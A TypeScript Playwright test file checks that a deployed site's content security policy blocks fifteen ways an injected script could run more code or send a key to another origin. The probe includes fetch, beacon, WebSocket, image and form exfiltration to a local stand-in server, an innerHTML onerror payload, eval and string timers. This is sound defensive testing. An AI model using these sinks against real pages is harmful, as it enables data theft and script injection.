import { createServer } from 'node:http'
import { close, listen } from '#tests/support/listen.ts'
import { startDeployedSite } from './core-fixtures.ts'
import { configFor, expect, test } from './fixtures.ts'

/**
 * Ways in which a script that runs in the page all the same would run more of its kind, or send the key away (faults, T8).
 * `sink` runs in the page; `elsewhere` is an origin that no configuration names. A way that needs a moment returns a
 * promise.
 */
const SINKS: Readonly<Record<string, (elsewhere: string) => unknown>> = {
  fetch: (elsewhere) => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }),
  sendBeacon: (elsewhere) => navigator.sendBeacon(`${elsewhere}/beacon`, 'k'),
  WebSocket: (elsewhere) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(elsewhere.replace('http', 'ws'))
      socket.addEventListener('open', resolve)
      socket.addEventListener('error', reject)
    }),
  'an image': (elsewhere) =>
    new Promise((resolve, reject) => {
      const image = new Image()
      image.addEventListener('load', resolve)
      image.addEventListener('error', reject)
      image.src = `${elsewhere}/image`
    }),
  'a form': (elsewhere) => {
    const form = document.createElement('form')
    form.action = `${elsewhere}/form`
    form.method = 'post'
    document.body.append(form)
    form.submit()
  },
  prefetch: (elsewhere) =>
    new Promise((resolve, reject) => {
      const link = document.createElement('link')
      link.rel = 'prefetch'
      link.href = `${elsewhere}/prefetch`
      link.addEventListener('load', resolve)
      link.addEventListener('error', reject)
      document.head.append(link)
    }),
  innerHTML: () => {
    document.body.innerHTML = '<img src="/none" onerror="ran.push(1)">'
  },
  // What is deprecated is a way all the same.
  // oxlint-disable-next-line typescript/no-deprecated
  'document.write': () => document.write('<p>written</p>'),
  'script.src': (elsewhere) => {
    document.createElement('script').src = `${elsewhere}/script.js`
  },
  DOMParser: () => new DOMParser().parseFromString('<p></p>', 'text/html'),
  'a timer of text': () =>
    new Promise((resolve, reject) => {
      // oxlint-disable-next-line typescript/no-implied-eval
      setTimeout('ran.push("timer")')
      setTimeout(
        () =>
          'ran' in window && String(window.ran).includes('timer')
            ? resolve(true)
            : reject(new Error('not run')),
        50,
      )
    }),
  'a policy of its own': () =>
    (window as unknown as { trustedTypes: { createPolicy: (...args: unknown[]) => unknown } }).trustedTypes //
      .createPolicy('own', { createHTML: String }),
  // oxlint-disable-next-line no-eval
  eval: () => (0, eval)('ran.push("eval")'),
  Worker: () => new Worker('/assets/probe.js'),
  'a service worker': () => navigator.serviceWorker.register('/assets/probe.js'),
}

/** Runs from a file of the site: what a test evaluates by itself, the debugger lets through. */
function probe(elsewhere: string): string {
  const sinks = Object.entries(SINKS).map(([name, sink]) => `${JSON.stringify(name)}: ${String(sink)}`)
  return `
    window.ran = []
    const violations = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective))
    const results = {}
    const attempt = async (name, sink) => {
      const before = violations.length
      let outcome = 'went through'
      try { await sink(${JSON.stringify(elsewhere)}) } catch { outcome = 'refused' }
      // The event of a violation comes in a task of its own.
      await new Promise((resolve) => setTimeout(resolve, 50))
      results[name] = outcome === 'refused' || violations.length > before ? 'blocked' : outcome
    }
    const run = async () => {
      for (const [name, sink] of Object.entries({ ${sinks.join(',\n')} })) await attempt(name, sink)
      window.results = results
    }
    void run()`
}

// The browser writes down what it blocks.
test.use({ expectsErrors: true })

test('each of 15 ways to run or send something else is blocked, and nothing arrives elsewhere', async ({
  page,
  petstore,
  production,
}) => {
  const arrived: string[] = []
  const elsewhere = createServer(({ url = '' }, answer) => {
    arrived.push(url)
    answer.end()
  })
  const origin = `http://127.0.0.1:${await listen(elsewhere)}`
  const files = {
    'assets/probe.html': '<!doctype html><title>Probe</title><body><script src="/assets/probe.js"></script>',
    'assets/probe.js': probe(origin),
  }
  const host = await startDeployedSite(configFor(petstore, production), files)

  await page.goto(`${host.origin}/assets/probe.html`)
  await expect.poll(() => page.evaluate(() => 'results' in window)).toBe(true)
  const results = await page.evaluate(
    () => (window as unknown as { results: Record<string, string> }).results,
  )
  expect(results).toEqual(Object.fromEntries(Object.keys(SINKS).map((name) => [name, 'blocked'])))
  expect(Object.keys(results)).toHaveLength(15)
  expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([])
  expect(arrived).toEqual([])

  await host.close()
  await close(elsewhere)
})
